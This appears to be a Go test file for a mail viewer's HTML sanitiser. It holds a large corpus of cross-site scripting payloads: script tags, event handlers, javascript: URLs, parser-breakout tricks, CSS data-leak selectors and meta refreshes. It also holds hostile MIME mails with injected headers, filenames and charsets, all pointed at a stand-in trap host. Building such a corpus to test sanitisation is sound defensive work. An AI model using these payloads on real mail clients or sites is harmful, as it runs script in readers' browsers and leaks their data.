package ui_test

import "strings"

// A payload is HTML that tries to do something when it is shown, or with click
// when the reader clicks on it. RUN in it stands for a script that tells on
// itself, FAR for an address elsewhere, FARS for one with https:. A payload that
// is alone may change what becomes of markup behind it. One that is dead does
// nothing in today's Chromium even when it may: other browsers, and its own past,
// are the reason to keep it.
type payload struct {
	name, html         string
	click, alone, dead bool
}

// filled has its placeholders filled in. The script has no quotes and no spaces.
func (p payload) filled(trap string) string { return fill4(p.html, p.name, trap) }

func fill4(text, name, trap string) string {
	return strings.NewReplacer(
		"RUN", "top.postMessage(`pwned-"+name+"`,`*`),document.title=`pwned-"+name+"`,new(Image)().src=`http://"+name+".trap.test/run`",
		"FARS", "https://"+name+".trap.test/far",
		"FAR", "http://"+name+".trap.test/far",
		"TRAP", trap,
		"NAME", name,
	).Replace(text)
}

const svgAttachment = `<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>`

// payloads are the corpus of what stands in HTML.
func payloads() []payload {
	return []payload{
		// Scripts by their own name.
		{name: "script", html: `<script>RUN</script>`},
		{name: "script-src", html: `<script src="FAR"></script>`},
		{name: "script-case", html: `<ScRiPt >RUN</sCrIpT >`},
		{name: "script-slash", html: `<script/x>RUN</script/y>`},
		{name: "script-nested", html: `<scr<script>ipt>RUN</scr</script>ipt>`, alone: true, dead: true},
		{name: "script-newline", html: "<script\n>RUN</script\n>"},
		{name: "script-module", html: `<script type="module">RUN</script>`},
		{name: "script-module-data", html: `<script type="module" src="data:text/javascript,RUN"></script>`},
		{name: "script-open-at-the-end", html: `<script>RUN;`, alone: true, dead: true},
		{name: "script-null", html: "<scr\x00ipt>RUN</script>", dead: true},
		{name: "script-speculation", html: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["FARS"],"eagerness":"immediate"}]}</script>`, dead: true},
		{name: "script-importmap", html: `<script type="importmap">{"imports":{"x":"FAR"}}</script><script type="module">import "x"</script>`, alone: true},
		{name: "svg-script", html: `<svg><script>RUN</script></svg>`},
		{name: "svg-script-href", html: `<svg><script href="FAR"></script></svg>`},
		{name: "svg-script-xlink", html: `<svg><script xlink:href="data:text/javascript,RUN"></script></svg>`},
		{name: "svg-script-entities", html: `<svg><script>&#116;rue&&RUN</script></svg>`, dead: true},
		{name: "math-script", html: `<math><mi><script>RUN</script></mi></math>`},

		// Handlers of events that come by themselves.
		{name: "img-onerror", html: `<img src=x onerror="RUN">`},
		{name: "img-unquoted", html: `<img/src=x/onerror=RUN>`, dead: true},
		{name: "img-single", html: `<img src=x onerror='RUN'>`},
		{name: "img-onload", html: `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="RUN">`},
		{name: "img-formfeed", html: "<img\x0csrc=x\x0conerror=RUN\x0c>"},
		{name: "img-null", html: "<img src=x\x00 onerror=RUN >"},
		{name: "img-entities", html: `<img src=x onerror="&#49&#59;RUN">`},
		{name: "img-srcset-onerror", html: `<img srcset="data:,x" onerror="RUN">`},
		{name: "image-onerror", html: `<image src=x onerror="RUN">`},
		{name: "input-image-onerror", html: `<input type=image src=x onerror="RUN">`},
		{name: "svg-onload", html: `<svg onload="RUN"></svg>`},
		{name: "svg-slash-onload", html: `<svg/onload="RUN"></svg>`},
		{name: "body-onload", html: `<body onload="RUN">`, alone: true},
		{name: "body-onpageshow", html: `<body onpageshow="RUN">`, alone: true},
		{name: "details-ontoggle", html: `<details open ontoggle="RUN"><summary>x</summary></details>`},
		{name: "input-autofocus", html: `<input autofocus onfocus="RUN">`, alone: true},
		{name: "any-autofocus", html: `<x tabindex=1 autofocus onfocus="RUN">x</x>`, alone: true},
		{name: "marquee-onstart", html: `<marquee onstart="RUN">x</marquee>`, dead: true},
		{name: "source-onerror", html: `<video><source src=x onerror="RUN"></video>`},
		{name: "audio-onerror", html: `<audio src=x onerror="RUN"></audio>`},
		{name: "style-onload", html: `<style onload="RUN">i{}</style>`},
		{name: "link-onload", html: `<link rel=stylesheet href="data:text/css,i{}" onload="RUN">`},
		{name: "object-onerror", html: `<object data="data:text/none,x" onerror="RUN" onload="RUN"></object>`},
		{name: "iframe-onload", html: `<iframe onload="RUN"></iframe>`},
		{name: "css-animation", html: `<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 10ms" onanimationstart="RUN">x</b>`},
		{name: "content-visibility", html: `<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="RUN">x</b>`},
		{name: "svg-animate-onbegin", html: `<svg><animate attributeName=x dur=1s onbegin="RUN"/></svg>`},
		{name: "svg-set-onbegin", html: `<svg><set attributeName=x to=1 dur=1s onbegin="RUN"/></svg>`},
		{name: "svg-animate-onend", html: `<svg><animate attributeName=x dur=1ms onend="RUN"/></svg>`},
		{name: "svg-foreign-object", html: `<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>`},
		{name: "svg-image-onerror", html: `<svg><image href="data:,x" onerror="RUN"/></svg>`},
		{name: "svg-desc", html: `<svg><desc><img src=x onerror="RUN"></desc></svg>`},

		// URLs that are scripts, or documents that hold some.
		{name: "iframe-javascript", html: `<iframe src="javascript:RUN"></iframe>`},
		{name: "iframe-javascript-case", html: `<iframe src="JaVaScRiPt:RUN"></iframe>`},
		{name: "iframe-javascript-entity", html: `<iframe src="java&#115;cript:RUN"></iframe>`},
		{name: "iframe-javascript-tab", html: `<iframe src="java&Tab;scr&NewLine;ipt&colon;RUN"></iframe>`},
		{name: "iframe-javascript-control", html: `<iframe src="&#1;&#32;javascript:RUN"></iframe>`},
		{name: "iframe-vbscript", html: `<iframe src="vbscript:RUN"></iframe>`, dead: true},
		{name: "iframe-blob", html: `<iframe src="blob:http://127.0.0.1/0a0a0a0a-0a0a-0a0a-0a0a-0a0a0a0a0a0a"></iframe>`, dead: true},
		{name: "iframe-data", html: `<iframe src="data:text/html,<script>RUN</script>"></iframe>`},
		{name: "iframe-data-svg", html: `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"></iframe>`},
		{name: "iframe-srcdoc", html: `<iframe srcdoc="<script>RUN</script>"></iframe>`},
		{name: "iframe-srcdoc-entities", html: `<iframe srcdoc="&lt;img src=x onerror='RUN'&gt;"></iframe>`},
		{name: "iframe-sandbox-open", html: `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>RUN</script>"></iframe>`},
		{name: "frameset", html: `<frameset onload="RUN"><frame src="javascript:RUN"></frameset>`, alone: true},
		{name: "object-data", html: `<object data="data:text/html,<script>RUN</script>"></object>`},
		{name: "object-javascript", html: `<object data="javascript:RUN"></object>`, dead: true},
		{name: "embed-data", html: `<embed src="data:text/html,<script>RUN</script>">`},
		{name: "embed-svg", html: `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">`},
		{name: "img-svg", html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">`, dead: true},
		{name: "svg-use-data", html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='data:,' onerror='RUN'/></svg>#x"/></svg>`, dead: true},
		{name: "meta-refresh-javascript", html: `<meta http-equiv="refresh" content="0;url=javascript:RUN">`, alone: true, dead: true},
		{name: "meta-refresh-data", html: `<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">`, alone: true},
		{name: "css-expression", html: `<b style="width:expression(RUN)">x</b>`, dead: true},
		{name: "css-javascript", html: `<b style="background:url('javascript:RUN')">x</b>`, dead: true},
		{name: "css-binding", html: `<b style="-moz-binding:url(FAR#x);behavior:url(FAR)">x</b>`, dead: true},
		{name: "xslt", html: `<?xml-stylesheet type="text/xsl" href="data:text/xml,<script>RUN</script>"?>`, dead: true},
		{name: "import", html: `<link rel=import href="data:text/html,<script>RUN</script>">`, dead: true},

		// Markup that is something else for another parser, or the second time.
		{name: "comment-short", html: `<!--><img src=x onerror="RUN">-->`},
		{name: "comment-dash", html: `<!---><img src=x onerror="RUN">-->`},
		{name: "comment-bang", html: `<!-- a --!><img src=x onerror="RUN"><!-- -->`},
		{name: "comment-bogus", html: `<!a "><img src=x onerror="RUN">">`},
		{name: "comment-end-tag", html: `</ a="><img src=x onerror="RUN">">`},
		{name: "instruction", html: `<?a "?><img src=x onerror="RUN">`},
		{name: "cdata", html: `<![CDATA[><img src=x onerror="RUN">]]>`},
		{name: "cdata-in-svg", html: `<svg><![CDATA[><img src=x onerror="RUN">]]></svg>`, dead: true},
		{name: "noscript", html: `<noscript><p title="</noscript><img src=x onerror=RUN >"></p></noscript>`, alone: true},
		{name: "noscript-img", html: `<noscript><img src="FAR"></noscript>`, dead: true},
		{name: "style-in-svg", html: `<svg></p><style><a id="</style><img src=x onerror=RUN >"></style></svg>`, alone: true},
		{name: "style-breakout", html: `<style></style/><img src=x onerror="RUN">`, alone: true},
		{name: "style-comment", html: `<style><!--</style><img src=x onerror="RUN">--></style>`, alone: true},
		{name: "title-breakout", html: `<title><b title="</title><img src=x onerror=RUN >"></b></title>`, alone: true},
		{name: "title-in-svg", html: `<svg><title><img src=x onerror="RUN"></title></svg>`},
		{name: "textarea-breakout", html: `<textarea><b title="</textarea><img src=x onerror=RUN >"></b>`, alone: true},
		{name: "xmp-breakout", html: `<xmp><p title="</xmp><img src=x onerror=RUN >"></xmp>`, alone: true},
		{name: "iframe-breakout", html: `<iframe><p title="</iframe><img src=x onerror=RUN >"></iframe>`, alone: true},
		{name: "noembed-breakout", html: `<noembed><p title="</noembed><img src=x onerror=RUN >"></noembed>`, alone: true},
		{name: "template", html: `<template><img src=x onerror="RUN"></template>`, dead: true},
		{name: "template-shadow", html: `<p><template shadowrootmode=open><img src=x onerror="RUN"></template></p>`},
		{name: "math-mglyph", html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN &gt;">`, alone: true, dead: true},
		{name: "math-form", html: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN >`, alone: true, dead: true},
		{name: "math-annotation", html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml></math>`, alone: true, dead: true},
		{name: "math-annotation-xml", html: `<math><annotation-xml><style><img src=x onerror="RUN"></style></annotation-xml></math>`, alone: true},
		{name: "math-malignmark", html: `<math><mi><malignmark><style><img src=x onerror="RUN"></style></malignmark></mi></math>`, alone: true},
		{name: "table-foster", html: `<table><img src=x onerror="RUN"><tr><td>x</td></tr></table>`},
		{name: "select-template", html: `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror='RUN'>">`, alone: true, dead: true},
		{name: "attribute-doubled", html: `<img src=x onerror="RUN" onerror="0">`},
		{name: "tag-in-tag", html: `<b <img src=x onerror="RUN">x</b>`, dead: true},
		{name: "plaintext", html: `<img src=x onerror="RUN"><plaintext>`, alone: true},
		{name: "meta-charset", html: "<meta charset=iso-2022-jp><i title=\"\x1b$B\"></i><i title=\"\x1b(B\"><img src=x onerror=RUN >\"></i>", alone: true},
		{name: "utf-7", html: `<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-`, alone: true, dead: true},
		{name: "amp", html: `<html amp4email><script async src="FARS/v0.js"></script><amp-img src="FARS"></amp-img>`, alone: true},

		// What is loaded, or led to, without being asked.
		{name: "img-src", html: `<img src="FAR">`},
		{name: "img-https", html: `<img src="FARS">`},
		{name: "img-no-scheme", html: `<img src="//NAME.trap.test/far">`},
		{name: "img-backslashes", html: `<img src="\\NAME.trap.test\far">`},
		{name: "img-tabs", html: "<img src=\"ht\ttp:/\n/NAME.trap.test/far\">"},
		{name: "img-address", html: `<img src="http://TRAP/img-address">`},
		{name: "img-lazy", html: `<img loading=lazy src="FAR">`},
		{name: "img-crossorigin", html: `<img crossorigin src="FAR">`},
		{name: "img-referrer", html: `<img referrerpolicy=unsafe-url src="FAR">`},
		{name: "img-srcset", html: `<img srcset="FAR 1x, FAR 2x">`},
		{name: "img-attribution", html: `<img attributionsrc="FARS" src="data:,">`, dead: true},
		{name: "img-lowsrc", html: `<img lowsrc="FAR" dynsrc="FAR" longdesc="FAR">`, dead: true},
		{name: "picture", html: `<picture><source srcset="FAR"><img></picture>`},
		{name: "input-image", html: `<input type=image src="FAR">`},
		{name: "video-src", html: `<video preload=auto src="FAR"></video>`},
		{name: "video-poster", html: `<video poster="FAR"></video>`},
		{name: "audio-src", html: `<audio preload=auto autoplay src="FAR"></audio>`},
		{name: "media-source", html: `<video preload=auto><source src="FAR"></video>`},
		{name: "track", html: `<video preload=auto src="data:video/mp4,x"><track default kind=subtitles src="FAR"></video>`, dead: true},
		{name: "iframe-src", html: `<iframe src="FAR"></iframe>`},
		{name: "iframe-srcdoc-img", html: `<iframe srcdoc="<img src='FAR'>"></iframe>`},
		{name: "iframe-srcdoc-iframe", html: `<iframe srcdoc="<iframe src='FAR'></iframe>"></iframe>`},
		{name: "iframe-srcdoc-preconnect", html: `<iframe srcdoc="<link rel=preconnect href='FARS'><meta http-equiv=refresh content='0;FAR'>"></iframe>`},
		{name: "frame-src", html: `<frameset><frame src="FAR"></frameset>`, alone: true},
		{name: "object-src", html: `<object data="FAR"></object>`},
		{name: "embed-src", html: `<embed src="FAR">`},
		{name: "body-background", html: `<body background="FAR">`, alone: true},
		{name: "table-background", html: `<table background="FAR"><tr><td>x</td></tr></table>`},
		{name: "td-background", html: `<table><tr><td background="FAR">x</td></tr></table>`},
		{name: "link-stylesheet", html: `<link rel=stylesheet href="FAR">`},
		{name: "link-stylesheet-media", html: `<link rel="stylesheet" media="print" href="FAR">`},
		{name: "link-preload", html: `<link rel=preload as=image href="FAR">`},
		{name: "link-preload-set", html: `<link rel=preload as=image imagesrcset="FAR 1x">`},
		{name: "link-modulepreload", html: `<link rel=modulepreload href="FAR">`},
		{name: "link-prefetch", html: `<link rel=prefetch href="FAR">`},
		{name: "link-prerender", html: `<link rel=prerender href="FAR">`, dead: true},
		{name: "link-preconnect", html: `<link rel=preconnect href="FARS">`},
		{name: "link-preconnect-many", html: `<link rel="x  PRECONNECT y" href="FARS">`},
		{name: "link-dns-prefetch", html: `<link rel=dns-prefetch href="FAR">`, dead: true},
		{name: "link-icon", html: `<link rel=icon href="FAR">`, dead: true},
		{name: "link-manifest", html: `<link rel=manifest href="FAR">`, dead: true},
		{name: "base", html: `<base href="http://NAME.trap.test/far/"><img src="relative.png">`, alone: true},
		{name: "base-target", html: `<base target=_top><meta http-equiv=refresh content="0;url=FAR">`, alone: true},
		{name: "meta-refresh", html: `<meta http-equiv="refresh" content="0;url=FAR">`, alone: true},
		{name: "meta-refresh-case", html: `<META CONTENT="0; URL='FAR'" HTTP-EQUIV=Refresh>`, alone: true},
		{name: "meta-refresh-attribute", html: `<meta http-equiv="&#114;efresh" content="0;FAR">`, alone: true},
		{name: "meta-refresh-svg", html: `<svg><desc><meta http-equiv="refresh" content="0;url=FAR"></desc></svg>`, alone: true},
		{name: "meta-policy", html: `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="FAR">`, alone: true},
		{name: "meta-referrer", html: `<meta name="referrer" content="unsafe-url"><img src="FAR">`, alone: true},
		{name: "css-url", html: `<b style="background:url(FAR)">x</b>`},
		{name: "css-url-escaped", html: `<b style="background:\75\72l(FAR)">x</b>`},
		{name: "css-image-set", html: `<b style="background:image-set('FAR' 1x)">x</b>`},
		{name: "css-variable", html: `<b style="--x:url(FAR);background:var(--x)">x</b>`},
		{name: "css-sheet", html: `<style>#css-sheet{background:url('FAR')}</style><b id=css-sheet>x</b>`},
		{name: "css-import", html: `<style>@import url("FAR");</style>`},
		{name: "css-import-string", html: `<style>@import "FAR";</style>`},
		{name: "css-import-escaped", html: `<style>@\69mport "FAR";</style>`},
		{name: "css-import-layer", html: `<style>@import url(FAR) layer(x) supports(display:block);</style>`},
		{name: "css-font-face", html: `<style>@font-face{font-family:leak;src:url(FAR);unicode-range:U+41}b.leak{font-family:leak}</style><b class=leak>A</b>`},
		{name: "css-attribute", html: `<style>input[value^="s"]{background:url(FAR)}</style><input value="secret">`},
		{name: "css-has", html: `<style>body:has(#css-has) #css-has{background:url(FAR)}</style><b id=css-has>x</b>`},
		{name: "css-visited", html: `<style>a:visited{background:url(FAR)}</style><a href="http://127.0.0.1/">x</a>`, dead: true},
		{name: "css-list-style", html: `<ul style="list-style-image:url(FAR)"><li>x</ul>`},
		{name: "css-content", html: `<style>.con::before{content:url(FAR)}</style><b class=con>x</b>`},
		{name: "css-cursor", html: `<b style="cursor:url(FAR),auto">x</b>`},
		{name: "css-border-image", html: `<b style="border:1px solid;border-image:url(FAR) 1">x</b>`},
		{name: "css-mask", html: `<b style="mask-image:url(FAR)">x</b>`},
		{name: "css-filter", html: `<b style="filter:url(FAR#x)">x</b>`, dead: true},
		{name: "css-shape", html: `<b style="float:left;shape-outside:url(FAR)">x</b>`},
		{name: "css-media", html: `<style>@media (min-width:1px){#css-media{background:url(FAR)}}</style><b id=css-media>x</b>`},
		{name: "svg-image", html: `<svg><image href="FAR"/></svg>`},
		{name: "svg-image-xlink", html: `<svg><image xlink:href="FAR"/></svg>`},
		{name: "svg-fe-image", html: `<svg><filter id=fe><feImage href="FAR"/></filter><rect width=9 height=9 filter="url(#fe)"/></svg>`},
		{name: "svg-use", html: `<svg><use href="FAR#x"/></svg>`, dead: true},
		{name: "svg-fill", html: `<svg><rect width=9 height=9 fill="url(FAR#x)"/></svg>`, dead: true},
		{name: "svg-style", html: `<svg><style>#svg-style{background:url(FAR)}</style></svg><b id=svg-style>x</b>`},
		{name: "template-shadow-img", html: `<p><template shadowrootmode=open><img src="FAR"></template></p>`},
		{name: "bgsound", html: `<bgsound src="FAR">`, dead: true},
		{name: "manifest", html: `<html manifest="FAR"><head profile="FAR"></head>`, alone: true, dead: true},
		{name: "cite", html: `<q cite="FAR">x</q><blockquote cite="FAR">x</blockquote>`, dead: true},
		{name: "fenced-frame", html: `<fencedframe src="FARS"></fencedframe><portal src="FARS"></portal>`, dead: true},

		// What a click does.
		{name: "a-javascript", html: cover(`<a href="javascript:RUN">`), click: true},
		{name: "a-javascript-entities", html: cover(`<a href="&#x6a;ava&Tab;script&colon;RUN">`), click: true},
		{name: "a-javascript-top", html: cover(`<a target=_top href="javascript:RUN">`), click: true, dead: true},
		{name: "a-data", html: cover(`<a target=_top href="data:text/html,<script>RUN</script>">`), click: true, dead: true},
		{name: "a-onclick", html: cover(`<a href="#x" onclick="RUN">`), click: true},
		{name: "a-ping", html: cover(`<a href="#x" ping="FAR">`), click: true},
		{name: "a-hover", html: cover(`<a href="#x" onpointermove="RUN" onmouseover="RUN">`), click: true},
		{name: "svg-a", html: cover(`<svg style="width:100%;height:100%"><a xlink:href="javascript:RUN"><rect width=2000 height=2000 fill=red /></a></svg>`), click: true},
		{name: "svg-a-animate", html: cover(`<svg style="width:100%;height:100%"><a><animate attributeName=href values="javascript:RUN" dur=9s /><rect width=2000 height=2000 fill=red /></a></svg>`), click: true, dead: true},
		{name: "svg-a-set", html: cover(`<svg style="width:100%;height:100%"><a><set attributeName="xlink:href" to="javascript:RUN"/><rect width=2000 height=2000 fill=red /></a></svg>`), click: true, dead: true},
		{name: "form", html: `<form action="FAR" target=_top>` + cover(`<button>`) + `</form>`, click: true, dead: true},
		{name: "form-self", html: `<form action="FAR">` + cover(`<button>`) + `</form>`, click: true},
		{name: "form-javascript", html: `<form action="javascript:RUN">` + cover(`<button>`) + `</form>`, click: true},
		{name: "formaction", html: `<form>` + cover(`<button formaction="javascript:RUN">`) + `</form>`, click: true},
		{name: "form-image", html: `<form>` + cover(`<input type=image formaction="FAR" src="data:,">`) + `</form>`, click: true},
		{name: "form-post", html: `<form method=post enctype="text/plain" action="/v1/messages/sample">` + cover(`<button>`) + `</form>`, click: true, dead: true},
		{name: "popover", html: cover(`<button popovertarget=pop>`) + `<p popover id=pop onbeforetoggle="RUN">x</p>`, click: true},
		{name: "label", html: `<label style="position:fixed;inset:0;background:red">x<input type=checkbox onchange="RUN"></label>`, click: true},
	}
}

// cover makes the element that begins so as large as the frame.
func cover(tag string) string {
	name, _, _ := strings.Cut(tag[1:], " ")
	name = strings.TrimSuffix(name, ">")
	tag = strings.Replace(tag, "<"+name, "<"+name+` style="position:fixed;inset:0;width:100%;height:100%;background:#fdd"`, 1)
	if strings.Contains(tag, "</") {
		return tag
	}
	return tag + "click</" + name + ">"
}

// hostileMails are whole mails: what is not HTML may be taken for it, and what is
// HTML may hide where nobody looks.
func hostileMails() map[string]string {
	html := func(charset, body string) string {
		return "Content-Type: text/html; charset=" + charset + "\n\n" + body
	}
	attached := func(contentType, name, body string) string {
		return "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>See the file.</p>\n--b\nContent-Type: " + contentType +
			"\nContent-Disposition: inline; filename=\"" + name + "\"\n\n" + body + "\n--b--\n"
	}
	const page = "<!doctype html><script>RUN</script><img src=x onerror=\"RUN\"><img src=\"FAR\">"
	return map[string]string{
		"headers": "From: \"<img src=x onerror='RUN'>\" <a@b.test>\nTo: =?utf-8?q?=3Cscript=3ERUN=3C/script=3E?= <x@y.test>\n" +
			"Subject: <img src=x onerror=\"RUN\"><script>RUN</script> =?utf-8?q?=3Csvg_onload=3D=22RUN=22=3E?=\nX-Note: <iframe srcdoc='<script>RUN</script>'>\n" +
			"Message-ID: <\"><img src=x onerror=RUN >@x>\nDate: <svg onload=RUN >\nList-Unsubscribe: <javascript:RUN>, <FAR>\n\n<img src=x onerror=\"RUN\"> is the text, FAR and javascript:RUN\n",
		"attached-html":   attached("text/html; charset=utf-8", "a.html", page),
		"attached-xhtml":  attached("application/xhtml+xml", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>`),
		"attached-svg":    attached("image/svg+xml", "a.svg", svgAttachment),
		"attached-xml":    attached("text/xml", "a.xml", `<?xml version="1.0"?><a:script xmlns:a="http://www.w3.org/1999/xhtml">RUN</a:script>`),
		"attached-xslt":   attached("application/xml", "a.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="FAR"?><x/>`),
		"attached-js":     attached("text/javascript", "a.js", "RUN"),
		"attached-css":    attached("text/css", "a.css", "@import 'FAR'; body{background:url(FAR)}"),
		"attached-mhtml":  attached("multipart/related; boundary=m; type=\"text/html\"", "a.mht", "--m\nContent-Type: text/html\nContent-Location: http://x.test/\n\n"+page+"\n--m--"),
		"attached-mht":    attached("application/x-mimearchive", "a.mhtml", "MIME-Version: 1.0\nContent-Type: text/html\n\n"+page),
		"attached-rfc822": attached("message/rfc822", "a.eml", "Subject: <img src=x onerror=RUN >\nContent-Type: text/html\n\n"+page),
		"attached-pdf":    attached("application/pdf", "a.pdf", page),
		"attached-png":    attached("image/png", "a.png", page),
		"attached-gif":    attached("image/gif", "a.gif", "GIF89a/*"+page+"*/=1;RUN"),
		"attached-video":  attached("video/mp4", "a.mp4", page),
		"attached-hls":    attached("audio/mpeg", "a.mp3", "#EXTM3U\n#EXTINF:1,\nFAR\n"),
		"attached-octets": attached("application/octet-stream", "a.html", page),
		"attached-none":   attached("", "a.html", page),
		"attached-odd":    attached("text/html;charset=\"><script>RUN</script>", "a.html", page),
		"attached-rtf":    attached("text/rtf", "a.rtf", `{\rtf1{\field{\*\fldinst INCLUDEPICTURE "FAR"}}}`),
		"attached-mixed":  attached("multipart/x-mixed-replace; boundary=r", "a", "--r\nContent-Type: text/html\n\n"+page+"\n--r--"),
		"attached-wasm":   attached("application/manifest+json", "a.json", `{"start_url":"FAR"}`),
		"attached-ics":    attached("text/calendar", "a.ics", "BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:<img src=x onerror=RUN >\nURL:javascript:RUN\nATTACH:FAR\nEND:VEVENT\nEND:VCALENDAR"),
		"attached-vcard":  attached("text/vcard", "a.vcf", "BEGIN:VCARD\nFN:<img src=x onerror=RUN >\nPHOTO:FAR\nURL:javascript:RUN\nEND:VCARD"),
		"filename":        attached("text/plain", `<img src=x onerror='RUN'>.html`, "x"),
		"filename-path":   attached("text/html", `..\\..\\v1\\messages?all=true#.html`, page),
		"filename-2231":   strings.Replace(attached("text/html", "a", page), `filename="a"`, "filename*=utf-8''%3Cscript%3ERUN%3C%2Fscript%3E%0D%0AX-Y:%20z.html", 1),
		"alternatives": "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\n" + page + "\n--b\nContent-Type: text/x-amp-html\n\n" +
			"<html amp4email><script async src=\"FARS\"></script>" + page + "\n--b\nContent-Type: text/html\n\n" + page + "\n--b--\n",
		"cid": "Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<script src=\"cid:s\"></script><iframe src=\"cid:h\"></iframe>" +
			"<object data=\"cid:v\"></object><embed src=\"cid:v\"><img src=\"cid:v\"><link rel=stylesheet href=\"cid:c\"><svg><use href=\"cid:v#x\"/></svg>" +
			"<img src='cid:\"><script>RUN</script>'>\n" +
			"--b\nContent-Type: text/javascript\nContent-ID: <s>\n\nRUN\n--b\nContent-Type: text/html\nContent-ID: <h>\n\n" + page +
			"\n--b\nContent-Type: image/svg+xml\nContent-ID: <v>\n\n" + svgAttachment + "\n--b\nContent-Type: text/css\nContent-ID: <c>\n\n@import 'FAR';\n" +
			"--b\nContent-Type: image/png\nContent-ID: <\"><script>RUN</script>>\n\nx\n--b--\n",
		"charset-utf-7":       html("utf-7", "+ADw-script+AD4-RUN+ADw-/script+AD4-"),
		"charset-iso-2022-jp": html("iso-2022-jp", "<i title=\"\x1b$B\"></i><i title=\"\x1b(B\"><img src=x onerror=RUN >\"></i>"),
		"charset-utf-16":      html("utf-16", "<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"+page),
		"charset-hz":          html("hz-gb-2312", "<i title=\"~{\"></i><i title=\"~}\"><img src=x onerror=RUN >\"></i>"),
		"charset-unknown":     html("\"x\\\"><script>RUN</script>\"", page),
		"text-as-html":        "Content-Type: text/plain\n\n" + page + "\njavascript:RUN http://x.test/\"onmouseover=\"RUN\n",
		"enriched":            "Content-Type: text/enriched\n\n<x-html>" + page + "</x-html>\n",
		"location":            "Content-Type: text/html\nContent-Location: http://NAME.trap.test/far/\nContent-Base: http://NAME.trap.test/far/\n\n<img src=\"a.png\">\n",
		"external-body":       "Content-Type: message/external-body; access-type=URL; URL=\"FAR\"\n\nContent-Type: text/html\n\n",
		"link-header":         "Link: <FAR>; rel=preload; as=image\nRefresh: 0;url=FAR\nContent-Security-Policy: default-src *\nSet-Cookie: a=b\nContent-Type: text/html\n\n" + page,
	}
}
